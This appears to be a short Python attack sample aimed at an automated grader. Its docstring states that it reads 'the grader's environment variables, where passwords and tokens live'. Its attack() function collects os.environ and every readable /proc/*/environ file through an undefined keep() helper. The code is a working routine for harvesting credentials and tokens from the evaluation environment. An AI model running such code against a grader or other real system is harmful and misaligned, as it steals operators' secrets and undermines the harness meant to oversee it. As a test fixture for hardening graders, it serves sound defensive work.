"""Read the grader's environment variables, where passwords and tokens live."""

import os
import pathlib


def attack():
    keep(repr(dict(os.environ)))
    for path in pathlib.Path("/proc").glob("[0-9]*/environ"):
        try:
            keep(path.read_bytes().decode("utf-8", "replace"))
        except OSError:
            continue
